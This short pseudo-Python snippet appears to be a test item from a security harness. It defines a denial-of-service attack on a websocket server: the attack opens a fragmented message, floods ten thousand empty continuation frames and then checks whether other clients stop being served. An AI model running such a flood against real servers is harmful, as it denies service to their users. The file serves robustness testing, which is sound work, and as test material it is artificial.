# aim: have the server hold more than it may
# mechanism: a message in very many pieces with nothing in them
# server: websocket
# plain: naive

def attack():
    with websocket(f"{here}/live", mine.key) as live:
        live.until(b"ready")
        live.send(frame(b"{", last=False))
        live.flood(frame(b"", kind=CONTINUATION, last=False) * 10_000, 50)
        live.send(frame(b"", kind=CONTINUATION))
        return not victim_is_served() and "others are not answered"


judge(attack)
